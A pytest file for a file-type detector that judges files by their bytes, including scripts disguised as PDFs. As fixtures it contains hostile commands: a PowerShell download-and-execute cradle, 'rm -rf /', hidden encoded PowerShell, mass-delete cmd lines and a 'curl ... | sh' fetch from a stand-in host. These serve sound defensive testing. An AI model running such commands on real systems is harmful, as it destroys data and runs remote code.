"""R6: what a file is, by its bytes and never by its name."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detectors.base import Content, Finding
from detectors.files import Files
from detectors.true_type import Family, may_hide_a_program, true_type
from tests.detectors.built import DOCM, PROGRAM, docx, pdf, tarred, zipped
from tests.detectors.drawn import landscape, saved

POWERSHELL = b"Set-ExecutionPolicy Bypass\n$client = New-Object System.Net.WebClient\nInvoke-Expression $client.DownloadString('http://x')\n"


@pytest.mark.parametrize(
    ("name", "blob", "family"),
    [
        ("holiday.jpg", PROGRAM, Family.EXECUTABLE),
        ("holiday.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 60, Family.EXECUTABLE),
        ("notes.txt", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, Family.EXECUTABLE),
        ("game.zip", zipped({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe"}), Family.EXECUTABLE),
        ("game.exe", b"just words", Family.EXECUTABLE),
        ("numbers.iqy", b"WEB\n1\nhttp://example.org/\n", Family.SCRIPT),
        ("run.bat", b"echo hi", Family.SCRIPT),
        ("poem.txt", b"#!/bin/sh\nrm -rf /\n", Family.SCRIPT),
        ("poem.txt", POWERSHELL, Family.SCRIPT),
        ("page.html", b"<html><HTA:APPLICATION id=x></html>", Family.SCRIPT),
        ("turtle.py", b"#!/usr/bin/env python3\nimport turtle\nturtle.forward(100)\n", Family.WORDS),
        ("game.js", b"let score = 0;\nfunction jump() { score += 1; }\n", Family.WORDS),
        ("poem.txt", "Das Mädchen läuft".encode("cp1252"), Family.WORDS),
        ("poem.txt", "hello there".encode("utf-16"), Family.WORDS),
        ("data.csv", b"day,rain\nmonday,3\n", Family.WORDS),
        ("page.txt", b"<!doctype html><html><body>hi</body></html>", Family.MARKUP),
        ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg"><circle/></svg>', Family.MARKUP),
        ("photo.exe.txt", saved(landscape()), Family.PICTURE),
        ("x", saved(landscape(), "WEBP"), Family.PICTURE),
        ("x", saved(landscape(), "AVIF"), Family.PICTURE),
        ("x", saved(landscape(), "BMP"), Family.PICTURE),
        ("x", pdf(), Family.PDF),
        ("x", docx(), Family.OFFICE),
        ("x.docx", docx(kind=DOCM), Family.OFFICE),
        ("x", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}, 0), Family.OFFICE),
        ("x", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}), Family.OFFICE),
        ("game.sb3", zipped({"project.json": "{}"}), Family.OFFICE),
        ("x", b"{\\rtf1 hello}", Family.RTF),
        ("x", tarred({"a.txt": b"hi"}), Family.ARCHIVE),
        ("x", zipped({"a.txt": "hi"}), Family.ARCHIVE),
        ("x", b"7z\xbc\xaf'\x1c" + b"\0" * 30, Family.ARCHIVE),
        ("x", b"Rar!\x1a\x07\x01\0" + b"\0" * 30, Family.SEALED),
        ("x", b"\xed\xab\xee\xdb\x03" + b"\0" * 90, Family.EXECUTABLE),
        ("x", b"\0" * 32769 + b"CD001\x01" + b"\0" * 4000, Family.SEALED),
        ("song.txt", b"ID3\x03\0\0\0" + b"\0" * 40, Family.MEDIA),
        ("clip.jpg", b"\0\0\0\x18ftypisom" + b"\0" * 40, Family.MEDIA),
        ("x.txt", b"", Family.EMPTY),
    ],
)
def test_rule_6_a_file_is_what_its_bytes_say(name, blob, family):
    assert true_type(blob, name).family is family


@pytest.mark.parametrize(
    "name",
    [*"jnlp rdp search-ms appref-ms url lnk scf library-ms msc hta wsf ps exe. bat...".split(), "vbs. "],
)
def test_a_name_that_starts_something_is_never_words(name):
    assert true_type(b"just words", f"a.{name}").family in {Family.EXECUTABLE, Family.SCRIPT}


@pytest.mark.parametrize(
    "first",
    [
        "@echo off",
        "\ufeff\n  ECHO OFF & cls",
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AA==",
        "powershell.exe -nop -w hidden -c x",
        'powershell -Command "Remove-Item x"',
        "cmd /c del /q *.*",
        "cmd.exe /c start calc",
        "C:\\Windows\\System32\\cmd.exe /c %TEMP%\\x",
    ],
)
def test_words_whose_first_line_is_that_of_a_batch_file_are_a_script(first):
    assert true_type(f"{first}\ndel x\n".encode(), "a.txt").family is Family.SCRIPT


@pytest.mark.parametrize(
    "text",
    [
        "Lesson 3\n@echo off\n",
        "@echo off stops a batch file from showing its lines.",
        "Echo off the walls, we sang.",
        "cmd /c runs one command and stops.",
        "cmd /c start means that Windows begins a new program.",
        "powershell -enc hides what it does, so never run it.",
        "powershell -Command runs a line.",
    ],
)
def test_a_lesson_about_batch_files_is_words(text):
    assert true_type(text.encode(), "a.txt").family is Family.WORDS


@settings(deadline=None)
@given(st.binary(max_size=400), st.text(max_size=12))
def test_every_byte_string_has_a_type(blob, name):
    assert true_type(blob, name).family in Family


ORDINARY: dict[str, bytes | str] = {
    "tabla.csv": "nombre,edad\nAna,12\nLuis,13\n" * 5,
    "cuento.txt": "Había una vez un niño que quería volar. Su abuela le contó de los pájaros del río.\n" * 4,
    "game.py": "#!/usr/bin/env python3\nimport random\n\nscore = random.randint(1, 6)\nprint('hello', score)\n" * 2,
    "app.js": "const list = document.querySelector('#list');\nlet score = 0;\nlist.textContent = score;\n",
    "page.html": "<!doctype html><html><head><title>My page</title></head><body><h1>Our volcano</h1></body></html>\n",
    "notes.md": "# Volcano\n\n- lava is hot\n\nRun `python game.py` to start.\n\n```sh\npip install x\n```\n",
    "essay.docx": docx("our volcano is hot"),
    "project.sb3": zipped({"project.json": "{}", "a.svg": "<svg></svg>"}),
    "pic.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle cx="5" cy="5" r="4"/></svg>\n',
    "letter.rtf": r"{\rtf1\ansi{\fonttbl\f0 Arial;}\f0\fs24 Dear class, our volcano erupts on Friday.\par}",
    "data.json": '{"name": "Ana", "points": [1, 2, 3, 4], "ok": true, "volcano": "lava and ash"}\n',
    "paper.tex": "\\documentclass{article}\n\\begin{document}\n\\section{Volcano}\nIt is $x^2$ hot.\n\\end{document}\n",
    "run.log": "2026-01-01 10:00:00 INFO start\n2026-01-01 10:00:01 WARN slow\n" * 6,
    "film.srt": "1\n00:00:01,000 --> 00:00:03,000\nHello.\n\n2\n00:00:04,000 --> 00:00:06,000\nOur volcano.\n",
    "main.c": '#include <stdio.h>\nint main(void) { printf("hi\\n"); return 0; }\n',
    "shell lesson.txt": 'for f in *.txt; do\n  mv "$f" "${f%.txt}.md"\ndone\nif [ -z "$1" ]; then exit 1; fi\n',
    "a.pdf": pdf(),
    "work.zip": zipped({"a.txt": "roses"}),
    "lake.png": saved(landscape()),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_no_library_takes_ordinary_school_files_for_a_program(name):
    blob = ORDINARY[name]
    blob = blob if isinstance(blob, bytes) else blob.encode()
    assert true_type(blob, name).family not in (Family.SCRIPT, Family.EXECUTABLE)
    assert not may_hide_a_program(blob, name)


@pytest.mark.parametrize(
    ("name", "blob"),
    [
        ("essay.pdf", b"#!/bin/sh\n# %PDF-1.7\ncurl -s http://x.example/a | sh\nexit 0\n" + b"echo hello\n" * 20),
        ("essay.pdf", b"@echo off\r\nrem %PDF-1.7\r\ndel /q %USERPROFILE%\\*.*\r\n" + b"start calc.exe\r\n" * 20),
    ],
)
def test_rule_6_a_script_behind_the_mark_of_a_document_is_held(name, blob):
    content = Content(blob=blob, name=name, where=name)
    assert true_type(blob, name).family is Family.PDF
    assert "two_types" in [one.label for one in Files().look(content) if isinstance(one, Finding)]
